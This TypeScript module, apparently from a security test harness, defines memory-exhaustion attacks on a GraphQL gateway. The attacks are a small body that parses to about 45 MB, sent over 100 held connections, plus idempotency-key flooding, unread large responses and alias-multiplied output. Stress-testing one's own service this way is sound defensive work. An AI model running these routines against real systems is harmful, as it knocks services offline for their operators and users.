import { setTimeout as sleep } from 'node:timers/promises'
import {
  type AttackStage,
  execute,
  executeAliased,
  keepPosting,
  openConnection,
  postMany,
  sendUnread,
  toBytes,
} from './send.ts'

// 2 MB of text that are 45 MB once they are parsed.
const extensions = `"extensions":{"a":[${'{},'.repeat(690_000)}{}]}`

/** What one caller can make the gateway hold. */
export const memoryAttacks = {
  'subscriptions with a body that parses large': async (stage: AttackStage) => {
    const body = `{"query":"subscription{teamMembershipChanged{cursor}}",${extensions}}`
    const bytes = toBytes('POST', '/graphql', {
      token: stage.tokens[0] ?? '',
      headers: ['Accept: text/event-stream'],
      body,
    })
    const sockets = Array.from({ length: 100 }, () => openConnection(stage).resume())
    for (const socket of sockets) {
      socket.write(bytes)
      await sleep(30)
    }
    await sleep(3_000)
    for (const socket of sockets) socket.destroy()
  },

  'waiters under one key with a body that parses large': (stage: AttackStage) => {
    const { query } = executeAliased(
      'const end = Date.now() + 900; while (Date.now() < end); exit(1)',
      'payload',
      1,
    )
    const body = `{"query":${JSON.stringify(query)},${extensions}}`
    return postMany(stage, 130, () => ({ body, headers: { 'idempotency-key': 'one' } }))
  },

  'answers that nobody reads': (stage: AttackStage) => {
    const body = executeAliased("exit('x'.repeat(2000000))", 'payload', 23)
    return sendUnread(stage, toBytes('POST', '/graphql', { token: stage.tokens[0] ?? '', body }), 60, 12)
  },

  'answers multiplied by aliases': (stage: AttackStage) => {
    const body = executeAliased(
      'const a=Array(250).fill(1); for(let i=0;i<520;i++) log(...a); exit(1)',
      'logs{data}',
      100,
    )
    return keepPosting(stage, 10, 8, () => ({ body }))
  },

  'answers kept under keys': (stage: AttackStage) => {
    const body = executeAliased("exit('x'.repeat(2000000))", 'payload', 23)
    return postMany(stage, 60, index => ({ body, headers: { 'idempotency-key': `kept-${index}` } }))
  },

  'results of runs kept under keys': async (stage: AttackStage) => {
    const outcomes = []
    for (let tens = 0; tens < 8; tens += 1) {
      const headers = (index: number) => ({ 'idempotency-key': `kept-${tens}-${index}` })
      outcomes.push(
        await postMany(stage, 10, index => ({
          ...execute("exit('x'.repeat(2000000))"),
          headers: headers(index),
        })),
      )
    }
    return outcomes
  },
}
